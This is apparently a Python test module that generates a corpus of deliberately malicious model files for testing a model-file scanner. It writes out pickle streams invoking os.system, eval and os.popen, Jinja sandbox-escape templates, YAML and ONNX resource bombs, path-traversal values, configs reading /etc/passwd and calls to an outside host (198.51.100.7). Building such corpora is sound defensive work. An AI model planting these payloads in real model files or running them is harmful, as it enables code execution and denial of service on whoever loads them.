"""Fourth hostile set, written before the mended code had run on it."""

from __future__ import annotations

import gzip
import json
import struct
import zipfile
import zlib

from tests.attacks.models.corpus import malicious
from tests.attacks.models.hostile_containers import LEGACY, REG, checkpoint, npy, tarred, zipped
from tests.attacks.models.hostile_data import gguf, gtext, onode, pb
from tests.attacks.models.hostile_pickles import call, short, stack_call, text
from tests.attacks.models.third_hostile import RUN, SYSTEM, state
from tests.attacks.models.third_hostile_data import lightgbm, script, xgboost

DTYPE = b"cnumpy\ndtype\n" + text("O8") + b"K\0K\1\x87R"
ARRAY = npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }\n", b"\0" * 8)
BYTES = lambda data: b"B" + struct.pack("<I", len(data)) + data
STREAMS = {
    "storage_bytes": b"\x80\x03ctorch.storage\n_load_from_bytes\n" + BYTES(RUN) + b"\x85R.", "storage_legacy": b"\x80\x03ctorch.storage\n_load_from_bytes\n" + BYTES(b"".join([*LEGACY, RUN, b"\x80\x02]."])) + b"\x85R.", "storage_zip": b"\x80\x03ctorch.storage\n_load_from_bytes\n" + BYTES(zipped(checkpoint(RUN))) + b"\x85R.", "memmap_new": b"\x80\x02cnumpy\nmemmap\n" + text("/etc/passwd") + b"\x85\x81.",
    "object_bytes": b"\x80\x03cnumpy._core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\0\x85C\1b\x87R(K\1K\1\x85" + DTYPE + b"\x89C\x08AAAAAAAAtb.", "vectorize_system": state("numpy", "vectorize", text("pyfunc"), SYSTEM), "bunch_getattr": state("sklearn.utils._bunch", "Bunch", text("__getattr__"), SYSTEM), "selector_pattern": b"\x80\x02csklearn.compose._column_transformer\nmake_column_selector\n" + SYSTEM + b"\x85R.", "lambda_rate": state("torch.optim.lr_scheduler", "LambdaLR", text("lr_lambdas"), b"]cbuiltins\neval\na"), "partial_wrapper": state("torch.ao.quantization.observer", "_PartialWrapper", text("p"), b"cfunctools\npartial\n" + SYSTEM + b"\x85R"),
    "parameter_state": b"\x80\x02ctorch._utils\n_rebuild_parameter_with_state\n(NNN}" + text("__class__") + SYSTEM + b"stR.", "tensor_no_storage": b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n(" + SYSTEM + b"K\0K\1\x85K\1\x85\x89}tR.", "load_url": call("torch.hub", "load_state_dict_from_url", "http://198.51.100.7/x"), "dynamic_type": stack_call("torch._utils", "_import_dotted_name", "os.system"), "utf7_name": b"\x80\x04" + short("codecs") + short("decode") + b"\x93(" + short("+AG8-") + short("utf-7") + b"tR.", "code_object": b"\x80\x04" + short("types") + short("CodeType") + b"\x93)R.", "marshal_loads": b"\x80\x03cmarshal\nloads\nC\1N\x85R.",
    "os_environ": b"cos\nenviron\n.", "sys_path_insert": b"\x80\x02csys\npath\n(Vcanary\ne.", "builtins_update": b"\x80\x02cbuiltins\n__dict__\n" + text("len") + SYSTEM + b"s.", "append_global": b"\x80\x02csys\nmeta_path\n" + SYSTEM + b"a.", "build_on_module": b"\x80\x02csys\nmodules\n" + text("os") + b"N\x86.", "warn": call("warnings", "warn", "x"), "breakpoint": b"cbuiltins\nbreakpoint\n)R.", "asyncio": call("asyncio", "run", "x"), "gadget_nested": b"\x80\x04" + short("a") + b"(" + short("os") + short("popen") + b"\x93" + short("touch canary") + b"\x85Rl\x86.", "late_memo": b"\x80\x04" + short("system") + b"\x94" + short("os") + b"\x94h\0\x93\x86." + RUN,
}  # fmt: skip
for name, data in STREAMS.items():
    malicious(f"fourth/stream_{name}.pkl", data)

TEMPLATES = {
    "block_name": "{% set k %}__cla{{ 'ss__' }}{% endset %}{{ ''[k] }}", "macro_text": "{% macro m() %}__cla{{ 'ss__' }}{% endmacro %}{% set k = m()|trim %}{{ ''[k] }}", "sum_start": "{% set k = ['__cla', 'ss__']|sum(start='') %}{{ ''[k] }}", "filter_block": "{% set k %}{% filter lower %}__CLA{{ 'SS__' }}{% endfilter %}{% endset %}{{ ''[k] }}", "with_block": "{% with k = ['__cla', 'ss__']|sum(start='') %}{{ ''[k] }}{% endwith %}", "call_block": "{% macro m(k) %}{{ ''[caller()] }}{% endmacro %}{% call m(1) %}__cla{{ 'ss__' }}{% endcall %}", "loop_else": "{% for k in [] %}{% else %}{{ x.__class__ }}{% endfor %}", "test_call": "{{ 1 is callable and raise_exception.__globals__ }}", "string_method": "{{ ''.join(['a'])['__cl' 'ass__'] }}", "attribute_chain": "{{ messages|map(attribute='role.__class__.__mro__')|list }}",
}  # fmt: skip
for number, (name, template) in enumerate(TEMPLATES.items()):
    if number % 2:
        malicious(f"fourth/{name}/chat_template.json", json.dumps({"chat_template": template}).encode())
    else:
        malicious(f"fourth/{name}.gguf", gguf([("tokenizer.chat_template", 8, gtext(template))]))

LAUGHS = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(f"a{n}: &a{n} [{', '.join(f'*a{n - 1}' for _ in range(9))}]\n" for n in range(1, 12))
TEXTS = {
    "laughs/config.yaml": LAUGHS, "laughs_of_maps/config.yaml": "a0: &a0 {x: 1}\n" + "".join(f"a{n}: &a{n} {{l: *a{n - 1}, r: *a{n - 1}, m: *a{n - 1}}}\n" for n in range(1, 30)), "inside_itself/config.yaml": "model: &m\n  name: x\n  again: *m\n", "imports/config.yaml": "custom_imports:\n  imports: [os, subprocess]\nmodel: {type: X}\n", "fairseq/config.yaml": "common:\n  user_dir: ./canary\nmodel: {_name: x}\n", "pickle_module/pickle_module_info.txt": "canary_code", "keras_module/keras_module.txt": "canary_code", "hydra_list/config.yaml": "- _target_: os.system\n  command: touch canary\n",
    "jinja_prompt/prompt.json": json.dumps({"_type": "prompt", "template": "{{ ''.__class__ }}", "template_format": "jinja2", "input_variables": []}), "logits/generation_config.json": json.dumps({"do_sample": True, "logits_processors": ["os.system"]}), "callbacks/config.json": json.dumps({"model_type": "x", "callbacks": [["subprocess.Popen", ["true"]]]}), "bundle/train.json": json.dumps({"imports": ["$import os"], "run": ["$os.system('touch canary')"]}), "pretrained/config.json": json.dumps({"architecture": "resnet18", "pretrained_cfg": {"file": "/etc/passwd"}}), "characters/config.json": json.dumps({"model": "vits", "characters": {"characters_class": "shutil.rmtree"}}), "base_name/quantize_config.json": json.dumps({"bits": 4, "model_file_base_name": "../../canary"}), "adapter/adapter_config.json": json.dumps({"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}),
    "extension.pmml": '<PMML version="4.4"><MiningModel><Extension><script>java.lang.Runtime.getRuntime().exec("x")</script></Extension></MiningModel></PMML>', "function_uri.pmml": '<PMML version="4.4"><Apply function="http://198.51.100.7/f"/></PMML>', "one_one.xml": '<?xml version="1.1"?><!DOCTYPE net SYSTEM "http://198.51.100.7/x.dtd"><net name="m" version="11"/>', "hub/hubconf.py": "dependencies = ['torch']\nimport os\nos.system('touch canary')\n", "words/tokenization_canary.py": "open('canary', 'w')\n", "generate/custom_generate/generate.py": "def generate(model, **more):\n    open('canary', 'w')\n", "triton/config.pbtxt": 'name: "m"\nbackend: "python"\n', "caffe.prototxt": 'layer { type: "Python" python_param { module: "canary" layer: "X" } }\n', "nested/config.json": "[" * 5000 + "]" * 5000,
}  # fmt: skip
for name, content in TEXTS.items():
    malicious(f"fourth/{name}", content.encode())


def tensor(name: str, dims: list[int], kind: int, raw: bytes) -> bytes:
    return b"".join(pb(1, dim) for dim in dims) + pb(2, kind) + pb(8, name) + pb(9, raw)


def graph(nodes: bytes, *more: bytes) -> bytes:
    return pb(1, 8) + pb(7, nodes + b"".join(more)) + pb(8, pb(1, "") + pb(2, 17))


SHAPE = struct.pack("<q", 1 << 42)
OWN = pb(25, pb(1, "F") + pb(4, "x") + pb(5, "y") + pb(7, pb(1, "x") + pb(2, "y") + pb(4, "F") + pb(7, "own")) + pb(10, "own"))
ONNX = {
    "folded_bomb.onnx": graph(pb(1, pb(1, "s") + pb(2, "y") + pb(4, "ConstantOfShape")), pb(5, tensor("s", [1], 7, SHAPE))), "function_of_itself.onnx": pb(1, 8) + pb(7, pb(1, pb(1, "x") + pb(2, "y") + pb(4, "F") + pb(7, "own"))) + pb(8, pb(1, "own") + pb(2, 1)) + OWN, "sparse_bomb.onnx": graph(onode("Relu"), pb(15, pb(1, tensor("v", [1], 1, b"\0" * 4)) + pb(2, tensor("i", [1], 7, b"\0" * 8)) + pb(3, 1 << 61) + pb(3, 1 << 61))), "two_datas.onnx": graph(onode("Relu"), pb(5, tensor("w", [1], 1, b"\0" * 4) + pb(4, b"\0" * 4))), "outside_and_inside.onnx": graph(onode("Relu"), pb(5, tensor("w", [1], 1, b"\0" * 4) + pb(13, pb(1, "location") + pb(2, "../canary")) + pb(14, 1))),
}  # fmt: skip
for name, data in ONNX.items():
    malicious(f"fourth/{name}", data)

SCRIPTS = {
    "own_save": script('_0 = ops.aten.save(x, "canary")\nreturn x'), "python_operator": script("return ops.prim.PythonOp(x)"), "fork": script("_0 = ops.prim.rpc_async(x)\nreturn x"), "lambda_call": script("return (lambda y: y)(x)"), "import_line": script("import os\nreturn x"),
}  # fmt: skip
for name, data in SCRIPTS.items():
    malicious(f"fourth/script_{name}.pt", data)

REST = {
    "cycle.txt": lightgbm(num_leaves="3", split_feature="0 0", split_gain="1 1", threshold="0.5 0.5", decision_type="2 2", left_child="0 -1", right_child="1 -2", leaf_value="0.1 0.2 0.3", leaf_weight="1 1 1", leaf_count="1 1 1", internal_value="0 0", internal_weight="0 0", internal_count="2 2"), "cycle.json": xgboost(left_children=[0, -1, -1], right_children=[0, -1, -1]), "linear_short.json": json.dumps({"version": [3, 2, 0], "learner": {"attributes": {}, "feature_names": [], "feature_types": [], "gradient_booster": {"model": {"boosted_rounds": 1, "weights": [0.5]}, "name": "gblinear"}, "learner_model_param": {"base_score": "[5E-1]", "boost_from_average": "1", "num_class": "0", "num_feature": "10000000", "num_target": "1"}, "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}}}}).encode(),
    "settings.nemo": tarred([("./model_config.yaml", b"cls: os.system\nparams: {command: touch canary}\n", REG, ""), ("./model_weights.ckpt", zipped(checkpoint()), REG, "")]), "folder.zip": zipped({"m/config.json": b'{"model_type": "x", "auto_map": {"AutoModel": "modeling_canary.X"}}', "m/modeling_canary.py": b"open('canary', 'w')\n"}), "handler.mar": zipped({"MAR-INF/MANIFEST.json": b'{"model": {"modelName": "m", "handler": "canary:run", "serializedFile": "a.npy"}}', "canary.py": b"", "a.npy": ARRAY}), "deep.npz": zipped({"a.npy": ARRAY, "b.npz": zipped({"c.npy": npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n", RUN)})}), "packed.npz": zipped({"a.npy": gzip.compress(RUN)}), "members.pt.zip": zipped({"weights.pt": zipped(checkpoint(RUN))}, zipfile.ZIP_DEFLATED), "packed_twice.joblib.gz": gzip.compress(zlib.compress(RUN)),
    "saved.tar.gz": gzip.compress(tarred([("saved/saved_model.pb", pb(1, 1) + pb(2, pb(2, pb(1, pb(1, "a") + pb(2, "WriteFile")))), REG, "")])), "lite.tflite": struct.pack("<I", 1 << 20) + b"TFL3" + b"\0" * 64, "tokens_nested.gguf": gguf([("a", 9, struct.pack("<IQ", 9, 1) * 40)]), "own_header.safetensors": struct.pack("<Q", 60) + b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4],"f":"x"}}' + b"\0" * 4, "weights.ckpt": b"\x80\x02}" + text("state_dict") + RUN[2:-1] + b"s.", "model": zipped(checkpoint(RUN)), "noise_first.joblib": zlib.compress(b"\x80\x04]\x94." + RUN),
}  # fmt: skip
for name, data in REST.items():
    malicious(f"fourth/{name}", data)
